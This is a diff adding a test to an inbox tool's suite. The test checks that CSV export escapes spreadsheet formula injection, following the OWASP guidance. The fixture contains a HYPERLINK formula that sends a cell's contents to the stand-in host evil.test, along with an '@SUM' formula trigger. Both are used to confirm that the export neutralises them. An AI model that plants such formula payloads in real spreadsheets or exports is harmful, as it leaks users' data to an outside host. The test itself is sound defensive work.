@@ -151,6 +151,19 @@ describe('the inbox commands', () => {
     );
   });
 
+  test('export --format csv writes a name or message a spreadsheet would run as a formula as text (OWASP)', () => {
+    insert({
+      createdAt: '2026-05-01T08:00:00.000Z',
+      name: '=HYPERLINK("http://evil.test/?x="&C2,"Click")',
+      email: 'eve@example.org',
+      message: '@SUM(1,2) then more',
+    });
+    expect(run({ name: 'export', format: 'csv' }).out).toBe(
+      'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt\r\n' +
+        `1,2026-05-01T08:00:00.000Z,"'=HYPERLINK(""http://evil.test/?x=""&C2,""Click"")",eve@example.org,"'@SUM(1,2) then more",pending,0,2026-05-01T08:00:00.000Z,,\r\n`,
+    );
+  });
+
   test('export --format json prints one JSON array with every field', () => {
     insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello there, friend.' });
     const { out, err, code } = run({ name: 'export', format: 'json' });
